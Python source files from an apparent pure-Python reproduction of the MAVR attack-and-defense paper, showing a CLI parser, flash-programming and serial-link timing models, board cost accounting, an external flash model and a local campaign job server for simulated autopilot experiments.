                          help="process-pool workers (1 = run inline)")
    campaign.add_argument("--seed", type=int, default=0,
                          help="base seed; per-scenario seeds are derived")
    campaign.add_argument("--timeout", type=float, default=None,
                          help="per-scenario timeout in seconds (workers only)")
    campaign.add_argument("--json", action="store_true",
                          help="machine-readable JSON output")
    campaign.add_argument("--jsonl", metavar="PATH",
                          help="write one record per scenario to PATH")
    campaign.add_argument("--progress", action="store_true",
                          help="stream [done/total] completion lines to stderr")
    campaign.add_argument("--inject-worker-fault", metavar="PATH",
                          help=argparse.SUPPRESS)  # test-only crash injection
    campaign.add_argument(
        "--cache-dir", metavar="DIR",
        help="content-addressed artifact cache shared by all workers "
             "(build + preprocess once per image, warm board restore)",
    )
    campaign.add_argument(
        "--checkpoint-dir", metavar="DIR",
        help="write per-shard completion checkpoints here",
    )
    campaign.add_argument("--shards", type=int, default=DEFAULT_SHARDS,
                          help="checkpoint shard file count "
                               f"(default: {DEFAULT_SHARDS})")
    campaign.add_argument(
        "--resume", action="store_true",
        help="replay completed specs from --checkpoint-dir, run the rest",
    )
    _add_defense_argument(campaign)
    _add_engine_argument(campaign)
    campaign.set_defaults(func=_cmd_campaign)

    campaign_sub = campaign.add_subparsers(dest="campaign_command")
    serve = campaign_sub.add_parser(
        "serve",
        help="job server: campaign requests in, JSONL results streamed back",
    )
    serve.add_argument("--host", default="127.0.0.1",
                       help="bind address (default: loopback only)")
    serve.add_argument("--port", type=int, default=7667,
                       help="TCP port (default: 7667; 0 picks a free port)")
    serve.add_argument("--jobs", type=int, default=1,
                       help="default worker count for requests that omit it")
    serve.add_argument("--cache-dir", metavar="DIR",
                       help="artifact cache shared by every served campaign")
    serve.set_defaults(func=_cmd_campaign_serve)

    report = subparsers.add_parser(
        "report", help="paper-vs-measured reproduction summary"
    )
    report.add_argument("--full", action="store_true",
                        help="include Tables I-III at full application scale")
    report.add_argument("--out", help="write markdown here instead of stdout")
    report.add_argument("--json", action="store_true",
                        help="machine-readable JSON output")
    report.set_defaults(func=_cmd_report)

    telemetry = subparsers.add_parser(
        "telemetry",
        help="crash/recovery demo on a protected board, dumping the snapshot",
    )
    _add_app_argument(telemetry)
    telemetry.add_argument("--ticks", type=int, default=20,
                           help="healthy flight ticks before the forced crash")
    telemetry.add_argument("--seed", type=int, default=1)
    telemetry.add_argument("--jsonl", metavar="PATH",
                           help="also stream the event log here (JSONL)")
    telemetry.add_argument("--out", metavar="PATH",
                           help="write the snapshot JSON here")
    telemetry.add_argument(
        "--profile", choices=PROFILE_MODES, default=None,
        help="attach the PC profiler; its snapshot joins the output "
             "under the 'profile' key",
    )
    telemetry.add_argument(
        "--flight-recorder", action="store_true",
        help="attach the flight recorder; the crash's forensic bundle "
             "joins the output under the 'forensics' key",
    )
    _add_engine_argument(telemetry)
    telemetry.set_defaults(func=_cmd_telemetry)

    profile = subparsers.add_parser(
        "profile", help="profile hot functions on a simulated board"
    )
    profile.add_argument(
        "--app",
        choices=("testapp", "arduplane", "arducopter", "ardurover"),
        default="testapp", help="application to profile",
    )
    profile.add_argument(
        "--toolchain", choices=tuple(_TOOLCHAINS), default="mavr",
        help="toolchain flag set (default: mavr, the randomizable build)",
    )
    profile.add_argument(
        "--mode", choices=PROFILE_MODES, default="exact",
        help="exact per-instruction attribution, block-entry attribution "
             "(keeps superblock engines fast), or the gadget heatmap",
    )
    profile.add_argument("--ticks", type=int, default=200,
                         help="flight ticks to profile")
    profile.add_argument("--seed", type=int, default=1)
    profile.add_argument("--protected", action="store_true",
                         help="profile a MAVR-protected board instead of "
                              "a bare autopilot")
    profile.add_argument("--top", type=int, default=15,
                         help="functions to show in the table")
    profile.add_argument("--collapsed", metavar="PATH",
                         help="write collapsed-stack (flamegraph) lines here")
    profile.add_argument("--json", action="store_true",
                         help="machine-readable profiler snapshot")
    _add_engine_argument(profile)
    profile.set_defaults(func=_cmd_profile)

    forensics = subparsers.add_parser(
        "forensics", help="render a forensic bundle JSON for humans"
    )
    forensics.add_argument(
        "bundle",
        help="bundle path (from 'attack --forensics' or 'telemetry "
             "--flight-recorder --out')",
    )
    forensics.set_defaults(func=_cmd_forensics)

    return parser


def main(argv: Optional[List[str]] = None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    return args.func(args)


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
