"""Simulated wall-clock for board-level timing accounting."""

from __future__ import annotations


class SimClock:
    """Millisecond accumulator shared by the board's timing models."""

    def __init__(self) -> None:
        self._elapsed_ms = 0.0

    @property
    def now_ms(self) -> float:
        return self._elapsed_ms

    def advance_ms(self, delta: float) -> None:
        if delta < 0:
            raise ValueError("time cannot go backwards")
        self._elapsed_ms += delta

    def advance_cycles(self, cycles: int, clock_hz: int = 16_000_000) -> None:
        self.advance_ms(cycles / clock_hz * 1000.0)
