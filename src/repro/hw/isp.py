"""In-application programming of the application processor (paper §VI-B4).

The master asserts RESET, enters the bootloader with a magic byte sequence,
streams the randomized binary page by page, and issues a final reset to
start the program.  Every reprogramming costs one write cycle of the
ATmega2560's embedded flash, which is rated for 10,000 cycles — the budget
that drives the randomization-frequency policy (§V-C).

Differential reflash
--------------------

A re-randomization rewrites only the bytes the shuffle actually moved or
retargeted: the fixed vectors+init region, unmoved data pages, and blocks
that happen to land on their old address are byte-identical to what the
chip already holds.  The programmer keeps a per-page digest of the last
image it wrote; when the flash provably still holds that image (same chip
object, same :attr:`FlashMemory.generation`, same length), only changed
pages are transferred and written — page-granular erase included — and
:class:`ProgrammingStats` prices the pass in pages and wire bytes so the
policy layer can reason about wear per page rather than per full image.

The invariant that makes skipping safe: *a skipped page is byte-identical
by digest to the page already in flash*, so the post-pass flash contents
equal a full reprogram byte for byte.  Any foreign write to the flash
(an SPM self-write, a debugger load) bumps ``generation`` and forces the
next pass back to a full reprogram.
"""

from __future__ import annotations

import hashlib
import time
from typing import List, Optional

from ..errors import FlashWearError, HardwareError
from ..telemetry import CounterField, GaugeField, StatsView, Telemetry
from .clock import SimClock
from .serialbus import FLASH_PAGE_SIZE, ProgrammingLink, PROTOTYPE_LINK

FLASH_ENDURANCE_CYCLES = 10_000
BOOTLOADER_ENTRY_MS = 50.0  # reset pulse + sync byte exchange


class ProgrammingStats(StatsView):
    """Accounting across the board's lifetime.

    A telemetry view: every field is a registry instrument.  Cumulative
    fields are monotonic counters — assigning a smaller value raises
    :class:`~repro.errors.TelemetryError` — so a silent reset in the
    reflash accounting can never pass unnoticed; ``last_*`` fields are
    gauges (point-in-time readings of the most recent pass).
    """

    component = "isp"

    programming_cycles = CounterField("isp.programming_cycles")
    bytes_programmed = CounterField("isp.bytes_programmed")
    total_programming_ms = CounterField("isp.total_programming_ms")
    last_programming_ms = GaugeField("isp.last_programming_ms", initial=0.0)
    # Flash generation after the most recent programming pass; the CPU's
    # predecoded engine invalidates its decode cache when this moves, and
    # the differential path uses it to prove the chip still holds the
    # image the page digests describe.  A gauge (not a counter): a new
    # flash chip object legitimately restarts its generation count.
    last_flash_generation = GaugeField("isp.last_flash_generation")
    # page-granular pricing (differential reflash)
    pages_written = CounterField("isp.pages_written")
    pages_skipped = CounterField("isp.pages_skipped")
    bytes_on_wire = CounterField("isp.bytes_on_wire")
    differential_passes = CounterField("isp.differential_passes")
    last_pages_written = GaugeField("isp.last_pages_written")
    last_pages_skipped = GaugeField("isp.last_pages_skipped")
    last_bytes_on_wire = GaugeField("isp.last_bytes_on_wire")


def _page_digests(image: bytes) -> List[bytes]:
    """One 8-byte BLAKE2b digest per flash page of ``image``."""
    return [
        hashlib.blake2b(
            image[offset : offset + FLASH_PAGE_SIZE], digest_size=8
        ).digest()
        for offset in range(0, len(image), FLASH_PAGE_SIZE)
    ]


class IspProgrammer:
    """Streams images into an AVR core's flash with wear and time models."""

    def __init__(
        self,
        link: ProgrammingLink = PROTOTYPE_LINK,
        clock: Optional[SimClock] = None,
        endurance: int = FLASH_ENDURANCE_CYCLES,
        telemetry: Optional[Telemetry] = None,
    ) -> None:
        self.link = link
        self.clock = clock if clock is not None else SimClock()
        self.endurance = endurance
        self.telemetry = telemetry if telemetry is not None else Telemetry()
        self.stats = ProgrammingStats(self.telemetry)
        self._programming_ms_hist = self.telemetry.registry.own_histogram(
            "isp.programming_ms", component="isp"
        )
        self._last_flash = None
        self._last_digests: Optional[List[bytes]] = None
        self._last_image_len = 0
        # Host-side wall time spent inside program() — the "program" phase
        # of the campaign phase breakdown.  Simulated time lives in
        # stats.total_programming_ms; this is what the host actually paid.
        self.host_program_s = 0.0

    def program(self, flash, image: bytes, force_full: bool = False) -> float:
        """Write ``image`` into ``flash`` (an :class:`~repro.avr.FlashMemory`).

        Returns the elapsed milliseconds and advances the clock.  Raises
        :class:`FlashWearError` once the endurance budget is exhausted.
        Automatically programs differentially when the chip provably
        still holds the previous image and the page diff is cheaper than
        a full transfer; ``force_full=True`` disables the fast path.
        """
        # size before wear: an oversized image is a build problem and must
        # be reported as such even on an exhausted chip
        if len(image) > flash.size:
            raise HardwareError(
                f"image of {len(image)} bytes exceeds flash size {flash.size}"
            )
        if self.stats.programming_cycles >= self.endurance:
            raise FlashWearError(
                f"application flash exhausted: {self.stats.programming_cycles} "
                f"of {self.endurance} write cycles used"
            )
        host_start = time.perf_counter()
        digests = _page_digests(image)
        changed = self._changed_pages(flash, image, digests, force_full)
        with self.telemetry.span("isp.program", image_bytes=len(image)) as span:
            if changed is None:
                elapsed, wire, written, skipped = self._program_full(flash, image)
                differential = False
            else:
                elapsed, wire, written, skipped = self._program_differential(
                    flash, image, changed
                )
                differential = True
            self.clock.advance_ms(elapsed)
            if span is not None:
                span.attrs.update(
                    differential=differential, pages_written=written,
                    pages_skipped=skipped, bytes_on_wire=wire,
                )
        # Both the erase and each page write bump ``flash.generation``, so
        # any decode cache built against the previous image is dead the
        # moment programming starts — never only when it finishes.
        self.stats.last_flash_generation = flash.generation
        self._last_flash = flash
        self._last_digests = digests
        self._last_image_len = len(image)
        self._programming_ms_hist.observe(elapsed)
        self.stats.programming_cycles += 1
        self.stats.bytes_programmed += len(image)
        self.stats.total_programming_ms += elapsed
        self.stats.last_programming_ms = elapsed
        self.stats.pages_written += written
        self.stats.pages_skipped += skipped
        self.stats.bytes_on_wire += wire
        self.stats.last_pages_written = written
        self.stats.last_pages_skipped = skipped
        self.stats.last_bytes_on_wire = wire
        if differential:
            self.stats.differential_passes += 1
        self.host_program_s += time.perf_counter() - host_start
        return elapsed

    # -- the two programming strategies ---------------------------------

    def _changed_pages(
        self, flash, image: bytes, digests: List[bytes], force_full: bool
    ) -> Optional[List[int]]:
        """Page indices to rewrite, or ``None`` when a full pass is needed.

        The diff is only trusted when the chip still holds exactly the
        image described by the stored digests: same flash object, no
        generation movement since our last pass (foreign writes — SPM
        self-writes, debugger loads — bump it), and an unchanged image
        length (a length change would leave stale pages beyond the new
        end).  Even then, a diff that would cost more wire bytes than the
        sequential stream falls back to the full pass.
        """
        if (
            force_full
            or self._last_digests is None
            or self._last_flash is not flash
            or flash.generation != self.stats.last_flash_generation
            or self._last_image_len != len(image)
        ):
            return None
        changed = [
            index
            for index, digest in enumerate(digests)
            if digest != self._last_digests[index]
        ]
        payload = sum(
            len(image[index * FLASH_PAGE_SIZE : (index + 1) * FLASH_PAGE_SIZE])
            for index in changed
        )
        if self.link.differential_wire_bytes(payload, len(changed)) >= len(image):
            return None  # diff would not beat the sequential stream
        return changed

    def _program_full(self, flash, image: bytes):
        flash.erase()
        for offset in range(0, len(image), FLASH_PAGE_SIZE):
            flash.write_page(offset, image[offset : offset + FLASH_PAGE_SIZE])
        pages = (len(image) + FLASH_PAGE_SIZE - 1) // FLASH_PAGE_SIZE
        elapsed = BOOTLOADER_ENTRY_MS + self.link.programming_ms(len(image))
        self.telemetry.emit(
            "flash.reprogrammed", pages=pages, image_bytes=len(image),
            generation=flash.generation,
        )
        return elapsed, len(image), pages, 0

    def _program_differential(self, flash, image: bytes, changed: List[int]):
        telemetry = self.telemetry
        payload = 0
        for index in changed:
            start = index * FLASH_PAGE_SIZE
            page = image[start : start + FLASH_PAGE_SIZE]
            flash.erase_page(start, len(page))
            flash.write_page(start, page)
            payload += len(page)
            telemetry.emit(
                "flash.page_reflashed", page=index, offset=start,
                size=len(page), generation=flash.generation,
            )
        total_pages = (len(image) + FLASH_PAGE_SIZE - 1) // FLASH_PAGE_SIZE
        wire = self.link.differential_wire_bytes(payload, len(changed))
        elapsed = BOOTLOADER_ENTRY_MS + self.link.differential_programming_ms(
            payload, len(changed)
        )
        return elapsed, wire, len(changed), total_pages - len(changed)

    # -- reporting -------------------------------------------------------

    def estimate_full_ms(self, n_bytes: int) -> float:
        """Timing-model dry run of a full reprogram: no flash writes, no
        wear, no clock movement — what :meth:`MasterProcessor.
        startup_overhead_ms` reports without burning a cycle."""
        return BOOTLOADER_ENTRY_MS + self.link.programming_ms(n_bytes)

    @property
    def remaining_cycles(self) -> int:
        return max(self.endurance - self.stats.programming_cycles, 0)
