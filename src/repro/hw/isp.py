"""In-application programming of the application processor (paper §VI-B4).

The master asserts RESET, enters the bootloader with a magic byte sequence,
streams the randomized binary page by page, and issues a final reset to
start the program.  Every reprogramming costs one write cycle of the
ATmega2560's embedded flash, which is rated for 10,000 cycles — the budget
that drives the randomization-frequency policy (§V-C).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

from ..errors import FlashWearError, HardwareError
from .clock import SimClock
from .serialbus import FLASH_PAGE_SIZE, ProgrammingLink, PROTOTYPE_LINK

FLASH_ENDURANCE_CYCLES = 10_000
BOOTLOADER_ENTRY_MS = 50.0  # reset pulse + sync byte exchange


@dataclass
class ProgrammingStats:
    """Accounting across the board's lifetime."""

    programming_cycles: int = 0
    bytes_programmed: int = 0
    total_programming_ms: float = 0.0
    last_programming_ms: float = 0.0
    # Flash generation after the most recent programming pass; the CPU's
    # predecoded engine invalidates its decode cache when this moves.
    last_flash_generation: int = 0


class IspProgrammer:
    """Streams images into an AVR core's flash with wear and time models."""

    def __init__(
        self,
        link: ProgrammingLink = PROTOTYPE_LINK,
        clock: Optional[SimClock] = None,
        endurance: int = FLASH_ENDURANCE_CYCLES,
    ) -> None:
        self.link = link
        self.clock = clock if clock is not None else SimClock()
        self.endurance = endurance
        self.stats = ProgrammingStats()

    def program(self, flash, image: bytes) -> float:
        """Write ``image`` into ``flash`` (an :class:`~repro.avr.FlashMemory`).

        Returns the elapsed milliseconds and advances the clock.  Raises
        :class:`FlashWearError` once the endurance budget is exhausted.
        """
        if self.stats.programming_cycles >= self.endurance:
            raise FlashWearError(
                f"application flash exhausted: {self.stats.programming_cycles} "
                f"of {self.endurance} write cycles used"
            )
        if len(image) > flash.size:
            raise HardwareError(
                f"image of {len(image)} bytes exceeds flash size {flash.size}"
            )
        # Both the erase and each page write bump ``flash.generation``, so
        # any decode cache built against the previous image is dead the
        # moment programming starts — never only when it finishes.
        flash.erase()
        for offset in range(0, len(image), FLASH_PAGE_SIZE):
            flash.write_page(offset, image[offset : offset + FLASH_PAGE_SIZE])
        self.stats.last_flash_generation = flash.generation
        elapsed = BOOTLOADER_ENTRY_MS + self.link.programming_ms(len(image))
        self.clock.advance_ms(elapsed)
        self.stats.programming_cycles += 1
        self.stats.bytes_programmed += len(image)
        self.stats.total_programming_ms += elapsed
        self.stats.last_programming_ms = elapsed
        return elapsed

    @property
    def remaining_cycles(self) -> int:
        return max(self.endurance - self.stats.programming_cycles, 0)
