"""Board-level hardware models: external flash, programming link, cost."""

from .board import (
    APM_BOARD_PRICE_USD,
    ATMEGA1284P_PRICE_USD,
    M95M02_PRICE_USD,
    Component,
    CostModel,
    MAVR_EXTRA_COMPONENTS,
    STOCK_COMPONENTS,
)
from .clock import SimClock
from .flashchip import ExternalFlash, M95M02_SIZE
from .isp import (
    BOOTLOADER_ENTRY_MS,
    FLASH_ENDURANCE_CYCLES,
    IspProgrammer,
    ProgrammingStats,
)
from .serialbus import (
    FLASH_PAGE_SIZE,
    FLASH_PAGE_WRITE_MS,
    PRODUCTION_LINK,
    PROTOTYPE_BAUD,
    PROTOTYPE_LINK,
    ProgrammingLink,
)

__all__ = [
    "APM_BOARD_PRICE_USD",
    "ATMEGA1284P_PRICE_USD",
    "M95M02_PRICE_USD",
    "Component",
    "CostModel",
    "MAVR_EXTRA_COMPONENTS",
    "STOCK_COMPONENTS",
    "SimClock",
    "ExternalFlash",
    "M95M02_SIZE",
    "BOOTLOADER_ENTRY_MS",
    "FLASH_ENDURANCE_CYCLES",
    "IspProgrammer",
    "ProgrammingStats",
    "FLASH_PAGE_SIZE",
    "FLASH_PAGE_WRITE_MS",
    "PRODUCTION_LINK",
    "PROTOTYPE_BAUD",
    "PROTOTYPE_LINK",
    "ProgrammingLink",
]
