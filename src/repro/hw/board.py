"""The MAVR board: component inventory and cost model (paper §V-A4).

The prototype extends a stock APM 2.5 with an ATmega1284P master processor
and an M95M02-DR external flash.  At batch-of-ten prototype prices that is
$7.74 + $3.94 = $11.68 on top of the $159.99 board — a 7.3% materials-cost
increase.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List

APM_BOARD_PRICE_USD = 159.99
ATMEGA1284P_PRICE_USD = 7.74
M95M02_PRICE_USD = 3.94


@dataclass(frozen=True)
class Component:
    name: str
    unit_price_usd: float
    role: str


STOCK_COMPONENTS = (
    Component("APM 2.5 (ATmega2560)", APM_BOARD_PRICE_USD, "application processor board"),
)

MAVR_EXTRA_COMPONENTS = (
    Component("ATmega1284P", ATMEGA1284P_PRICE_USD, "master processor"),
    Component("M95M02-DR", M95M02_PRICE_USD, "external flash"),
)


@dataclass
class CostModel:
    """Bill-of-materials arithmetic for the §V-A4 numbers."""

    base: tuple = STOCK_COMPONENTS
    extras: tuple = MAVR_EXTRA_COMPONENTS

    @property
    def base_cost(self) -> float:
        return sum(component.unit_price_usd for component in self.base)

    @property
    def extra_cost(self) -> float:
        return sum(component.unit_price_usd for component in self.extras)

    @property
    def total_cost(self) -> float:
        return self.base_cost + self.extra_cost

    @property
    def increase_fraction(self) -> float:
        return self.extra_cost / self.base_cost

    def report(self) -> dict:
        return {
            "base_usd": round(self.base_cost, 2),
            "extra_usd": round(self.extra_cost, 2),
            "total_usd": round(self.total_cost, 2),
            "increase_pct": round(self.increase_fraction * 100, 1),
        }
