"""Master <-> application processor serial link timing (Table II's bottleneck).

The prototype talks to the ATmega2560 bootloader over its primary
asynchronous serial port at 115200 baud.  With 8N1 framing that is 11.52
bytes per millisecond — the paper rounds to "a maximum of 11 bytes per
millisecond" — and transferring the randomized binary at that rate *is*
the startup overhead Table II reports (e.g. ArduPlane's 221294 bytes /
11.52 B/ms = 19209 ms).

A production PCB could run at mega-baud rates; the paper estimates ~4 s
once the internal flash write speed becomes the bottleneck.  Both regimes
are modelled here.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..mavlink.channel import BITS_PER_BYTE_8N1, LinkTiming

PROTOTYPE_BAUD = 115_200

# Production estimate: flash page programming dominates.  The ATmega2560
# writes 256-byte pages in ~4.5 ms; 256 KB / 256 B * 4.5 ms ~= 4.6 s, the
# paper's "conservative estimate ... would be 4 seconds".
FLASH_PAGE_SIZE = 256
FLASH_PAGE_WRITE_MS = 4.5

# A differential reflash addresses pages individually, so each page write
# command carries framing the full sequential stream does not need: a
# 3-byte load-address command plus a 1-byte write strobe (stk500v2-style).
PAGE_COMMAND_OVERHEAD_BYTES = 4


@dataclass(frozen=True)
class ProgrammingLink:
    """Serial link + flash-write timing for reprogramming the app processor."""

    baud: int = PROTOTYPE_BAUD
    overlap_flash_writes: bool = True  # bootloader writes while receiving

    @property
    def timing(self) -> LinkTiming:
        return LinkTiming(self.baud)

    @property
    def bytes_per_ms(self) -> float:
        return self.timing.bytes_per_ms

    def transfer_ms(self, n_bytes: int) -> float:
        """Pure serial time for the image bytes."""
        return self.timing.transfer_ms(n_bytes)

    def flash_write_ms(self, n_bytes: int) -> float:
        pages = (n_bytes + FLASH_PAGE_SIZE - 1) // FLASH_PAGE_SIZE
        return pages * FLASH_PAGE_WRITE_MS

    def programming_ms(self, n_bytes: int) -> float:
        """Total reprogramming time for an image of ``n_bytes``.

        On the prototype the serial link is ~10x slower than the flash
        writes and the bootloader overlaps them, so the serial transfer is
        the whole story; otherwise the two serialize.
        """
        transfer = self.transfer_ms(n_bytes)
        writes = self.flash_write_ms(n_bytes)
        if self.overlap_flash_writes:
            return max(transfer, writes)
        return transfer + writes

    # -- differential (page-addressed) reprogramming --------------------

    def differential_wire_bytes(self, page_payload_bytes: int, pages: int) -> int:
        """Bytes on the wire to send ``pages`` individually addressed pages."""
        return page_payload_bytes + pages * PAGE_COMMAND_OVERHEAD_BYTES

    def differential_programming_ms(
        self, page_payload_bytes: int, pages: int
    ) -> float:
        """Reprogramming time when only ``pages`` changed pages are sent.

        Same overlap model as :meth:`programming_ms`: each page is erased
        and rewritten while the next one streams in, so the wall time is
        the larger of the wire time and the page-write time.
        """
        transfer = self.transfer_ms(
            self.differential_wire_bytes(page_payload_bytes, pages)
        )
        writes = pages * FLASH_PAGE_WRITE_MS
        if self.overlap_flash_writes:
            return max(transfer, writes)
        return transfer + writes


PROTOTYPE_LINK = ProgrammingLink()
PRODUCTION_LINK = ProgrammingLink(baud=4_000_000)
