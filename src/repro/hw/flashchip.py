"""External flash memory chip (paper §V-A1).

Models the M95M02-DR serial EEPROM MAVR adds next to the master processor:
256 KB — "limited to the same size as the target application processor" —
holding the *original* unrandomized binary plus the prepended symbol
information.  It is the only entry point for new code; the application
processor never reads it, guaranteeing isolation between the original and
randomized binaries.
"""

from __future__ import annotations

from typing import Optional

from ..errors import HardwareError

M95M02_SIZE = 256 * 1024
M95M02_UNIT_PRICE_USD = 3.94  # paper's batch-of-ten prototype price


class ExternalFlash:
    """Byte-addressable serial flash with random access reads."""

    def __init__(self, size: int = M95M02_SIZE) -> None:
        self.size = size
        self._data = bytearray(b"\xff" * size)
        self._stored_length = 0
        self.write_count = 0
        self.read_count = 0

    def store(self, blob: bytes, offset: int = 0) -> None:
        """Upload content (the preprocessed HEX) onto the chip."""
        if offset < 0 or offset + len(blob) > self.size:
            raise HardwareError(
                f"content of {len(blob)} bytes does not fit the "
                f"{self.size}-byte external flash"
            )
        self._data[offset : offset + len(blob)] = blob
        self._stored_length = max(self._stored_length, offset + len(blob))
        self.write_count += 1

    def read(self, offset: int, length: int) -> bytes:
        """Random-access read — what lets the master stream functions."""
        if offset < 0 or offset + length > self.size:
            raise HardwareError(
                f"read of {length} bytes at {offset} exceeds chip bounds"
            )
        self.read_count += 1
        return bytes(self._data[offset : offset + length])

    def read_all(self) -> bytes:
        """The stored content (up to the high-water mark)."""
        self.read_count += 1
        return bytes(self._data[: self._stored_length])

    @property
    def stored_length(self) -> int:
        return self._stored_length

    def fits(self, n_bytes: int, offset: int = 0) -> bool:
        """Would a ``store`` of ``n_bytes`` at ``offset`` succeed?

        The chip is deliberately sized like the application processor's
        flash, so big applications sit "perilously close" to its limit —
        callers with optional payload (the relocation index) check before
        storing instead of letting the upload fail.
        """
        return offset >= 0 and offset + n_bytes <= self.size

    def erase(self) -> None:
        self._data = bytearray(b"\xff" * self.size)
        self._stored_length = 0
