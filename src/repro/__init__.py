"""MAVR reproduction: stealthy code-reuse attacks and randomization defense
on simulated AVR UAV autopilots.

Reproduces Habibi et al., "MAVR: Code Reuse Stealthy Attacks and Mitigation
on Unmanned Aerial Vehicles" (ICDCS 2015) as a pure-Python system:

* :mod:`repro.avr` — ATmega2560 core simulator (Harvard memories, real
  AVR opcode encodings, 3-byte return addresses).
* :mod:`repro.asm` + :mod:`repro.binfmt` — assembler/linker/disassembler
  and binary containers (Intel HEX, symbol tables, firmware images).
* :mod:`repro.firmware` — synthetic ArduPlane/Copter/Rover-class autopilot
  applications with the paper's function counts and code sizes.
* :mod:`repro.mavlink` + :mod:`repro.uav` — the protocol, the UAV harness,
  flight dynamics, and ground stations (legitimate and malicious).
* :mod:`repro.attack` — the paper's contribution #1: gadget discovery and
  the V1/V2/V3 (basic / stealthy / trampoline) ROP attacks.
* :mod:`repro.core` — the paper's contribution #2: the MAVR defense
  (preprocessing, function-block randomization, patching, master
  processor, watchdog, fuses, policy).
* :mod:`repro.hw` — board hardware models (external flash, programming
  link timing, flash wear, cost).
* :mod:`repro.analysis` — brute-force effort, entropy, gadget survival.

Quickstart::

    from repro.firmware import build_testapp
    from repro.uav import Autopilot
    from repro.attack import StealthyAttack
    from repro.core import MavrSystem

    image = build_testapp()                 # vulnerable autopilot firmware
    outcome = StealthyAttack(image).execute(Autopilot(image))
    assert outcome.stealthy                 # undetected hijack

    protected = MavrSystem(image, seed=1)   # same firmware under MAVR
    protected.boot()                        # randomized before flight
"""

__version__ = "1.0.0"

from . import analysis, asm, attack, avr, binfmt, core, firmware, hw, mavlink, uav

__all__ = [
    "analysis",
    "asm",
    "attack",
    "avr",
    "binfmt",
    "core",
    "firmware",
    "hw",
    "mavlink",
    "uav",
    "__version__",
]
