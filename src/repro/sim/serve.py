"""Stdlib-only campaign job server: specs in, JSONL results out.

``repro campaign serve`` listens on a TCP port for newline-delimited
JSON requests, runs each as a campaign through the ordinary
:class:`~repro.sim.campaign.CampaignRunner`, and streams the results
back as the same JSONL the file sink writes — one deterministic record
per scenario as it lands, then the ``campaign.aggregates`` and
``campaign.phases`` trailer lines.  One request per connection.

A request mirrors the ``repro campaign`` flags (all fields optional)::

    {"app": "testapp", "attack": "guess", "count": 10, "seed": 0,
     "defense": "mavr", "toolchain": "mavr", "engine": "predecoded",
     "jobs": 2, "timeout": null}

The server holds a single :class:`~repro.sim.artifacts.ArtifactCache`
root for its lifetime, so every request after the first one that shares
a board configuration takes the warm path — the "heavy traffic" shape
the fleet-scale story needs.  Campaigns run one at a time (the pool
already owns the parallelism); requests queue on the accept loop.

The protocol stays deliberately tiny: no auth, no TLS, no framing
beyond newlines.  It binds loopback by default and exists for local
fleet drivers and tests, not the open internet.
"""

from __future__ import annotations

import asyncio
import json
from typing import List, Optional

from ..avr.engine import DEFAULT_ENGINE
from ..telemetry import jsonable
from .campaign import CampaignRunner, deterministic_phases
from .scenario import ATTACK_VARIANTS, ScenarioSpec, derive_seed


def specs_from_request(request: dict) -> List[ScenarioSpec]:
    """Build the spec list for one request, mirroring ``repro campaign``.

    Seeds derive exactly as the CLI derives them, so a served campaign's
    records are byte-identical to ``repro campaign --jsonl`` with the
    same parameters.
    """
    attack = request.get("attack", "guess")
    if attack is not None and attack not in ATTACK_VARIANTS:
        raise ValueError(f"unknown attack variant: {attack!r}")
    seed = int(request.get("seed", 0))
    count = int(request.get("count", 1))
    if count < 1:
        raise ValueError("count must be >= 1")
    return [
        ScenarioSpec(
            app=request.get("app", "testapp"),
            toolchain=request.get("toolchain", "mavr"),
            defense=request.get("defense", "mavr"),
            engine=request.get("engine", DEFAULT_ENGINE),
            seed=derive_seed(seed, index, "board"),
            attack=attack,
            attack_seed=derive_seed(seed, index, "attack"),
            label=f"{attack}-{index}",
        )
        for index in range(count)
    ]


class CampaignServer:
    """Accept campaign requests and stream their JSONL back."""

    def __init__(
        self,
        host: str = "127.0.0.1",
        port: int = 0,
        default_jobs: int = 1,
        cache_dir=None,
    ) -> None:
        self.host = host
        self._requested_port = port
        self.default_jobs = default_jobs
        self.cache_dir = cache_dir
        self._server: Optional[asyncio.AbstractServer] = None

    @property
    def port(self) -> int:
        """The bound port (useful after binding port 0 in tests)."""
        if self._server is None:
            return self._requested_port
        return self._server.sockets[0].getsockname()[1]

    async def start(self) -> None:
        self._server = await asyncio.start_server(
            self.handle_client, self.host, self._requested_port
        )

    async def serve_forever(self) -> None:
        if self._server is None:
            await self.start()
        async with self._server:
            await self._server.serve_forever()

    async def handle_client(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        loop = asyncio.get_running_loop()
        try:
            line = await reader.readline()
            if not line.strip():
                return
            try:
                request = json.loads(line)
                specs = specs_from_request(request)
            except (ValueError, TypeError, KeyError) as exc:
                writer.write(self._line({"campaign.error": str(exc)}))
                await writer.drain()
                return

            # the runner blocks in a pool; keep the accept loop breathing
            # by running it on a thread, with results crossing back via a
            # queue so each record streams out the moment it lands
            queue: asyncio.Queue = asyncio.Queue()

            def result_sink(index: int, result) -> None:
                loop.call_soon_threadsafe(
                    queue.put_nowait, (index, result.to_record())
                )

            runner = CampaignRunner(
                jobs=int(request.get("jobs", self.default_jobs)),
                timeout_s=request.get("timeout"),
                cache_dir=self.cache_dir,
                result_sink=result_sink,
            )
            task = loop.run_in_executor(None, runner.run, specs)
            # results land in completion order; hold back until their
            # index is next so the stream matches the file sink byte for
            # byte at any jobs level
            buffered: dict = {}
            next_index = 0
            while next_index < len(specs):
                index, record = await queue.get()
                buffered[index] = record
                while next_index in buffered:
                    writer.write(self._line(buffered.pop(next_index)))
                    next_index += 1
                await writer.drain()
            report = await task
            writer.write(
                self._line({"campaign.aggregates": jsonable(report.aggregates)})
            )
            writer.write(
                self._line({
                    "campaign.phases": jsonable(
                        deterministic_phases(report.phases)
                    )
                })
            )
            await writer.drain()
        except (ConnectionResetError, BrokenPipeError):
            pass  # client went away mid-stream; nothing to clean up
        finally:
            try:
                writer.close()
                await writer.wait_closed()
            except (ConnectionResetError, BrokenPipeError):
                pass

    @staticmethod
    def _line(payload: dict) -> bytes:
        return (
            json.dumps(payload, separators=(",", ":")) + "\n"
        ).encode("utf-8")
