"""Content-addressed artifact cache for the campaign fast path.

Scenario setup repeats the same expensive host-side work in every pool
worker: the toolchain build, the defense backend's preprocess pass
(pointer-coverage scan + HEX encode), the external-flash blob encode,
and the full ISP programming + boot of the first scenario per board
configuration.  All of those artifacts are pure functions of their
inputs, so they are cached *content-addressed*: the key is a BLAKE2b
